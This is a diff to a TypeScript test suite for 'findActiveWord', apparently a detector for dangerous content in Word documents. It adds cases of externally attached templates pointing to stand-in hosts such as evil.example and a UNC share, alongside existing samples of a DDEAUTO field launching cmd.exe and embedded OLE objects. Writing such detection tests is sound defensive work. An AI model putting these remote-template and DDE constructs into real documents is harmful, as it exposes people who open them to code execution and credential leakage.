@@ -2,8 +2,8 @@ import { aDocx, documents } from '../../../testing';
 import { findActiveWord } from './findActiveWord';
 
 const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const relating = (type: string, rest = '') => ({
-  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${type}" Target="x" ${rest}/></Relationships>`,
+const relating = (type: string, rest = '', target = 'x') => ({
+  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}" ${rest}/></Relationships>`,
 });
 const external = 'TargetMode="External"';
 const saying = (content: string) => ({ 'word/document.xml': `<w:p>${content}</w:p>` });
@@ -17,7 +17,9 @@ describe('findActiveWord', () => {
     ['an embedded object', relating(`${office}/oleObject`)],
     ['an embedded file', relating(`${office}/package`)],
     ['a letter as its code', relating(`${office}/ole&#x4f;bject`)],
-    ['a template from elsewhere', relating(`${office}/attachedTemplate`, external)],
+    ['a template from elsewhere', relating(`${office}/attachedTemplate`, external, 'https://evil.example/x.dotm')],
+    ['a template of the network', relating(`${office}/attachedTemplate`, external, 'file:///\\\\evil\\x.dotm')],
+    ['a template of a server', relating(`${office}/attachedTemplate`, external, 'file://evil/x.dotm')],
     ['a picture from elsewhere', relating(`${office}/image`, external)],
     ['what only seems to be a link', relating(`${office}/image`, `${external} X=' Type="/hyperlink"'`)],
     ['a field that starts a program', saying('<w:fldSimple w:instr=" DDEAUTO cmd.exe "/>')],
@@ -30,6 +32,10 @@ describe('findActiveWord', () => {
 
   it.each([
     ['nothing of the kind', {}],
+    [
+      'the template it was begun with',
+      relating(`${office}/attachedTemplate`, external, 'file:///C:\\Users\\Ada\\Resume.dotx'),
+    ],
     ['a link', relating(`${office}/hyperlink`, external)],
     ['a picture of its own', relating(`${office}/image`)],
     ['a page number', saying('<w:fldSimple w:instr=" PAGE "/>')],
